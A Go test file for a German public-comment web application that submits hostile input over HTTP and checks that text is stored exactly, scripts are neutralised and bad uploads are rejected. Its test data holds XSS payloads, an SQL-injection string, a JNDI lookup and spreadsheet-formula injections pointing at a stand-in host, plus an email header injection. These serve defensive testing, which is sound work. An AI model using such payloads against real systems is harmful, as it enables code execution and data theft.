package main

import (
	"bytes"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/jackc/pgx/v5"

	"github.com/einwand/einwand/cmd/einwand/internal/postgres"
)

const (
	form47    = "/verfahren/bp-47/stellungnahme"
	textField = "Was möchten Sie uns sagen?"
	fileField = "Dateien anhängen"
	toDetails = "Weiter zu Ihren Angaben"
	toCheck   = "Weiter"
	toReceipt = "Stellungnahme jetzt einreichen"
)

// TestHostileInputLosesNothing sends over HTTP what people, browsers and attackers send. Nothing may end in a 500, and
// what was typed is never lost: it is stored byte for byte, or stands in the form again.
func TestHostileInputLosesNothing(t *testing.T) {
	d := startDemo(t)
	for _, test := range []struct {
		name string
		run  func(*testing.T, *demo)
	}{
		{"login below the level", loginBelowTheLevel},
		{"session ends while the form is open", sessionEndsWhileTheFormIsOpen},
		{"files that cannot be taken", filesThatCannotBeTaken},
		{"bytes that are no text", bytesThatAreNoText},
		{"texts come back byte for byte", textsComeBackByteForByte},
		{"double click", doubleClick},
		{"two tabs", twoTabs},
		{"fields beside the text", fieldsBesideTheText},
		{"addresses", hostileAddresses},
		{"addresses of a session that is over", addressesAfterLogout},
	} {
		t.Run(test.name, func(t *testing.T) { test.run(t, d) })
	}
	if got := d.einwand("verify", "--data", d.data); got.code != 0 {
		t.Errorf("verify afterwards: got exit %d: %s%s", got.code, got.stdout, got.stderr)
	}
}

// sit opens a browser in which somebody is at the form.
func (d *demo) sit(t *testing.T, who string) *browser {
	t.Helper()
	return openBrowser(t, d.address).Get(form47).LoginAs(who).Arrived(form47)
}

// file goes on from the form to the receipt.
func (b *browser) file(text string) *browser {
	b.t.Helper()
	b.Get(form47).Fill(textField, text).Press(toDetails).Press(toCheck).Press(toReceipt)
	return b.Sees("h1", "Ihre Stellungnahme ist bei uns")
}

// tab is a second tab of the same browser.
func (b *browser) tab() *browser {
	c := *b
	return &c
}

func loginBelowTheLevel(t *testing.T, d *demo) {
	const words = "Der Uferweg muss offen bleiben."
	mara := d.sit(t, "Mara Hoffmann")
	greta := d.sit(t, "Greta Albers").Sees("h1", "Mit Benutzername und Passwort reicht es hier nicht ganz")
	sent := mara.Fill(textField, words).pressed(toDetails) // the form that Greta is not shown
	sent.URL, _ = url.Parse(d.address + form47)
	greta.open(sent)
	greta.Sees("h1", "reicht es hier nicht ganz").Sees("strong", "Ihr Text bleibt gespeichert.")
	greta.Follow("Ihren Text als Brief oder E-Mail").Sees("main", words)
	greta.open(greta.request(http.MethodPost, form47+"/einreichen", []byte("entwurf="+draftOf(t, d, words)), "application/x-www-form-urlencoded"))
	greta.Answered(http.StatusForbidden).Sees("h1", "reicht es hier nicht ganz")
	greta.Get("/meine").Sees("main", "Noch nicht eingereicht").Page().Lacks("Bei uns eingegangen")
}

// draftOf is the key of the draft with these words, which no page shows to whom the form is closed.
func draftOf(t *testing.T, d *demo, words string) (id string) {
	t.Helper()
	d.sql(t, func(c *pgx.Conn) error {
		return c.QueryRow(t.Context(), `SELECT id::text FROM draft WHERE original = $1 AND consumed_at IS NULL`, []byte(words)).Scan(&id)
	})
	return id
}

// sql runs statements as the superuser of the demo's own database.
func (d *demo) sql(t *testing.T, f func(*pgx.Conn) error) {
	t.Helper()
	server, err := postgres.Join(t.Context(), d.data)
	must(t, err)
	conn, err := pgx.Connect(t.Context(), server.URL("postgres", databaseName))
	must(t, err)
	must(t, f(conn))
	must(t, conn.Close(t.Context()))
}

func sessionEndsWhileTheFormIsOpen(t *testing.T, d *demo) {
	const words = "Zwei Stunden geschrieben: Die Kaltluft\nbraucht Schneisen. 🌬️"
	b := d.sit(t, "Tarek Yıldız").Fill(textField, words)
	d.sql(t, func(c *pgx.Conn) error {
		_, err := c.Exec(t.Context(), `DELETE FROM sessions`)
		return err
	})
	b.Press(toDetails).Answered(http.StatusUnauthorized).Sees("h1", "Bitte melden Sie sich noch einmal an").Sees("main", "Eingereicht ist er noch nicht.")
	b.Follow("Anmelden und weiterschreiben").LoginAs("Tarek Yıldız").Arrived(form47)
	b.Sees(".kern-alert--info", "Ihr Text ist wieder da").Sees("textarea[name=text]", "Schneisen. 🌬️")
	b.Press(toDetails).Press(toCheck).Press(toReceipt).Sees("h1", "Ihre Stellungnahme ist bei uns")
	if got := b.received(); got != strings.ReplaceAll(words, "\n", "\r\n") {
		t.Errorf("text of the receipt: got %q, want %q with the line ends of a form", got, words)
	}
}

// received is the text in the proof of the receipt that is shown.
func (b *browser) received() string {
	b.t.Helper()
	return string(unzip(b.t, b.Download("Digitaler Nachweis (ZIP)"))["text.txt"])
}

func filesThatCannotBeTaken(t *testing.T, d *demo) {
	const words = "Siehe meine Skizze im Anhang."
	b := d.sit(t, "Mara Hoffmann").Fill(textField, words)
	for _, u := range []upload{
		{"skizze.svg", "image/svg+xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)},
		{"seite.html", "text/html", []byte("<!doctype html><script>alert(1)</script>")},
		{"brief.pdf", "application/pdf", []byte("<html><body onload=alert(1)>")}, // says PDF and is none
		{"brief.docm", "application/vnd.ms-word.document.macroEnabled.12", []byte("PK\x03\x04 macro")},
		{"programm.exe", "application/octet-stream", []byte("MZ\x90\x00\x03\x00\x00\x00")},
		{"leer.txt", "text/plain", nil},
		{"gross.txt", "text/plain", bytes.Repeat([]byte("laut "), 26<<20/5)},
		{`..\..\Lärm "Messung".txt`, "text/html", []byte("62 dB(A)\n")},
	} {
		b.Attach(fileField, u)
	}
	b.Press(toDetails).Answered(http.StatusUnprocessableEntity).Sees("textarea[name=text]", words)
	for _, name := range []string{"skizze.svg", "seite.html", "brief.pdf", "brief.docm", "programm.exe", "leer.txt", "gross.txt"} {
		b.Sees("[role=alert]", "„"+name+"“ wurde nicht angenommen.")
	}
	b.Sees("main", "gross.txt ist 27,3 MB groß. Höchstens 25 MB sind möglich.")
	b.Get(form47).Sees("textarea[name=text]", words).Press(toDetails).Sees("h1", "Ihre Angaben").Press(toCheck).Press(toReceipt)
	kept := `Lärm "Messung".txt`
	if got := string(b.Download(kept)); got != "62 dB(A)\n" {
		t.Errorf("the one file that could be taken: got %q, want its bytes", got)
	}
	resp, _, err := b.do(b.request(http.MethodGet, b.Page().Follow(kept), nil, ""))
	must(t, err)
	if got := resp.Header; !strings.HasPrefix(got.Get("Content-Disposition"), "attachment;") || !strings.Contains(got.Get("Content-Security-Policy"), "sandbox") ||
		got.Get("X-Content-Type-Options") != "nosniff" || got.Get("Cache-Control") != "no-store" {
		t.Errorf("headers of a stranger's file: got %v, want nothing that runs or stays", got)
	}
}

func bytesThatAreNoText(t *testing.T, d *demo) {
	b := d.sit(t, "Mara Hoffmann")
	for name, bad := range map[string]string{
		"NUL":                "Vorher\x00nachher",
		"half a character":   "Vorher \xc3",
		"Latin-1":            "L\xe4rm vorher",
		"surrogate in UTF-8": "vorher \xed\xa0\x80",
		"more than 2 MB":     strings.Repeat("vorher ", 2<<20/7+1),
	} {
		b.Get(form47).Fill(textField, bad).Press(toDetails)
		b.Answered(http.StatusUnprocessableEntity).Sees("[role=alert]", "noch nicht gespeichert und nicht eingereicht.")
		if shown := b.Page().Text("textarea[name=text]"); !strings.Contains(strings.ToLower(shown), "vorher") {
			t.Errorf("%s: got %q in the form, want what was typed", name, shown)
		}
	}
	b.Fill(textField, "Nun ohne Zeichen, die niemand sieht.").Press(toDetails).Press(toCheck).Press(toReceipt).Sees("h1", "Ihre Stellungnahme ist bei uns")
}

// hostileTexts are all texts: they are taken as they come.
var hostileTexts = map[string]string{
	"emoji":               "👩‍👩‍👧‍👦 wohnen hier, 🏳️‍🌈 auch. Zähler: 1️⃣",
	"decomposed umlauts":  "Bru\u0308cke u\u0308ber den Auenbach, a\u030arhus",
	"formula":             "=1+1",
	"formula that calls":  `=HYPERLINK("http://boese.example","Klick")`,
	"placeholder of PDFs": "{nb} Seiten, {nb}, und \\{nb\\}",
	"script":              `<script>alert("Lärm")</script><img src=x onerror=alert(1)>`,
	"end of the field":    `</textarea></form><script>alert(1)</script>`,
	"entities":            "&lt;b&gt; &amp;amp; &#0; &NotAnEntity;",
	"leading line":        "\n\nNach zwei leeren Zeilen",
	"old line ends":       "Zeile 1\rZeile 2\nZeile 3",
	"bidi and zero width": "Rechts \u202eechsträw\u202c, unsichtbar\u200b\u2060\ufeff",
	"controls":            "Tab\tGlocke\aEscape\x1b[31mrot\x1b[0m Löschen\x7f",
	"SQL":                 `Robert'); DROP TABLE statement;-- $1 %s %!d(MISSING)`,
	"templates":           "{{.Secret}} ${jndi:ldap://boese.example} #{7*7} <%= 7*7 %>",
	"combining flood":     "Z" + strings.Repeat("\u0301\u0321\u0488", 400) + "algo",
	"one long word":       strings.Repeat("Donaudampfschifffahrtsgesellschaft", 200),
	"one megabyte":        strings.Repeat("Die Straße ist zu laut. ", 1<<20/25) + "Schluss.",
}

func textsComeBackByteForByte(t *testing.T, d *demo) {
	mara, jana := d.sit(t, "Mara Hoffmann"), openBrowser(t, d.address).LoginAs("Jana Wirth")
	for name, text := range hostileTexts {
		mara.t, jana.t = t, t
		mara.file(text)
		want := strings.ReplaceAll(text, "\n", "\r\n") // what a form makes of line ends, before anything of ours sees it
		if got := mara.received(); got != want {
			t.Errorf("%s: text of the receipt: got %d bytes, want %d: %.80q, want %.80q", name, len(got), len(want), got, want)
		}
		if pdf := mara.Download("Eingangsbestätigung (PDF)"); !bytes.HasPrefix(pdf, []byte("%PDF-")) {
			t.Errorf("%s: got no PDF", name)
		}
		label := mara.at.Path[strings.LastIndex(mara.at.Path, "-")+1:]
		jana.Get("/planung/verfahren/bp-47/abschnitte/" + strings.TrimLeft(label, "0")).Answered(http.StatusOK)
		for who, b := range map[string]*browser{"author": mara, "planner": jana} {
			b.Page().HasNone("main script").HasNone("main img").HasNone("[onerror]")
			if got := squash(b.Page().Text("main")); !strings.Contains(got, squash(text)) {
				t.Errorf("%s: the page of the %s does not show the text", name, who)
			}
		}
	}
	jana.Get("/planung/verfahren/bp-47/eingang").Answered(http.StatusOK).Page().HasNone("main script")
}

// squash takes out what a page may show otherwise: white space, and characters that HTML does not know.
func squash(s string) string {
	return strings.Map(func(r rune) rune {
		if r <= ' ' || r == '\u00a0' || r == '\x7f' {
			return -1
		}
		return r
	}, s)
}

func doubleClick(t *testing.T, d *demo) {
	b := d.sit(t, "Tarek Yıldız")
	before := b.tab().Get("/meine").Page().Count("h3 a[href^=/meine/]")
	b.Get(form47).Fill(textField, "Bitte nur einmal zählen.").Press(toDetails).Press(toCheck)
	one := b.pressed(toReceipt)
	body, err := io.ReadAll(one.Body)
	must(t, err)
	var wg sync.WaitGroup
	receipts := make([]string, 8)
	for i := range receipts {
		wg.Go(func() {
			r := one.Clone(t.Context())
			r.Body = io.NopCloser(bytes.NewReader(body))
			if resp, _, err := b.do(r); err == nil {
				receipts[i] = resp.Header.Get("Location")
			}
		})
	}
	wg.Wait()
	for _, got := range receipts {
		if got != receipts[0] || !strings.HasPrefix(got, "/meine/BP47-") {
			t.Errorf("eight clicks at once: got %q, want one receipt", receipts)
			break
		}
	}
	if after := b.Get("/meine").Page().Count("h3 a[href^=/meine/]"); after != before+1 {
		t.Errorf("statements of the person: got %d, want %d", after, before+1)
	}
}

func twoTabs(t *testing.T, d *demo) {
	first := d.sit(t, "Mara Hoffmann")
	second := first.tab().Get(form47)
	first.Fill(textField, "Aus dem ersten Fenster.").Press(toDetails).Sees("h1", "Ihre Angaben")
	second.Fill(textField, "Aus dem zweiten Fenster.").Press(toDetails).Answered(http.StatusConflict).Sees("h1", "Zwei Fassungen Ihres Textes")
	second.Sees(".ew-quote", "Aus dem ersten Fenster.").Sees("textarea[name=text]", "Aus dem zweiten Fenster.")
	second.Press("Mit dieser Fassung weitermachen").Press(toCheck).Press(toReceipt)
	if got := second.received(); got != "Aus dem zweiten Fenster." {
		t.Errorf("got %q received, want the version that was chosen", got)
	}
	first.Press(toCheck) // the draft is gone by now
	if first.status == http.StatusOK && first.at.Path == form47+"/pruefen" {
		t.Error("the first tab still has a draft to file, want none")
	}
}

func fieldsBesideTheText(t *testing.T, d *demo) {
	b := d.sit(t, "Tarek Yıldız")
	b.Fill(textField, "Es geht um die Ecke.").Fill("Um welche Stelle im Plangebiet geht es?", `<b onclick=alert(1)>Ecke</b> "Mühlenweg"`).Press(toDetails).Sees("h1", "Ihre Angaben")
	b.Choose("Für mich und weitere Personen")
	b.Choose("Per E-Mail").Fill("E-Mail-Adresse", "t@post.example\r\nBcc: alle@boese.example").Press(toCheck)
	b.Answered(http.StatusUnprocessableEntity).Sees("[role=alert]", "Bitte prüfen Sie die E-Mail-Adresse.")
	b.Fill("E-Mail-Adresse", "t.yildiz@post.example").Press(toCheck).Sees("h1", "Für wen Sie schreiben")
	b.Fill("Wer schreibt mit Ihnen?", "=cmd|'/c calc'!A1 <script>; a; b; c; d").Press("Weiter zur Prüfung").Answered(http.StatusUnprocessableEntity)
	b.Sees("[role=alert]", "Zeile 1").Sees("textarea[name=personen]", "=cmd|'/c calc'!A1 <script>")
	b.Fill("Wer schreibt mit Ihnen?", "=cmd|'/c calc'!A1 <script>; Weg 1").Press("Weiter zur Prüfung")
	b.Sees("main", "=cmd|'/c calc'!A1 <script>").Sees("main", `<b onclick=alert(1)>Ecke</b> "Mühlenweg"`)
	b.Press(toReceipt).Page().HasNone("main b").HasNone("script")
	number := strings.TrimPrefix(b.at.Path, "/meine/")
	if mail := d.mail(number); strings.Contains(mail, "boese.example") || strings.Contains(mail, "Ecke") {
		t.Errorf("mail: got %q, want one recipient and no content", mail)
	}
	b.Get(form47).Fill(textField, "x").Fill("Um welche Stelle im Plangebiet geht es?", "Ecke\x00").Press(toDetails)
	b.Answered(http.StatusUnprocessableEntity).Sees("[role=alert] a[href=#ort]", "").Sees("textarea[name=text]", "x")
}
